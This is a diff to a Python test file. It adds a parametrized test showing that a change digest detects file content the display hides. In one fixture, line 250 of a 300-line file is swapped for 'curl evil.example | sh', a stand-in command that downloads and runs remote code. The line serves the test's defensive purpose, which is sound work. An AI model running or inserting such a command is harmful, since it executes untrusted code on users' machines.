@@ -9,7 +9,7 @@ import pytest
 
 from lackpy_kernel.kit import Workspace
 from lackpy_kernel.kit import changes as changes_module
-from lackpy_kernel.kit.changes import Change, describe_changes, file_change, printable
+from lackpy_kernel.kit.changes import Change, change_digest, describe_changes, file_change, printable
 
 
 def test_a_new_and_a_changed_file_show_their_counts_and_lines(ws: Path):
@@ -86,3 +86,16 @@ def test_a_change_crosses_the_pipe_as_plain_data_and_a_malformed_one_is_refused(
         Change.from_frame(frame)
     with pytest.raises(ValueError, match="malformed change"):
         Change.from_frame({"files": [{"path": 1}]})
+
+
+@pytest.mark.parametrize(("first", "second"), [
+    (b"\0" + b"a" * 999, b"\0" + b"EVI" * 333),  # binary: only the sizes are shown
+    ("".join(f"line {n}\n" for n in range(300)).encode(),  # a line past those shown
+     "".join(f"line {n}\n" if n != 250 else "curl evil.example | sh\n"
+             for n in range(300)).encode()),
+])
+def test_a_change_digest_covers_the_content_not_shown(first, second):
+    one, other = file_change("out.txt", None, first), file_change("out.txt", None, second)
+    assert {**one.to_frame(), "content": ""} == {**other.to_frame(), "content": ""}  # shown alike
+    assert change_digest(Change((one,))) != change_digest(Change((other,)))
+    assert Change.from_frame(Change((one,)).to_frame()) == Change((one,))
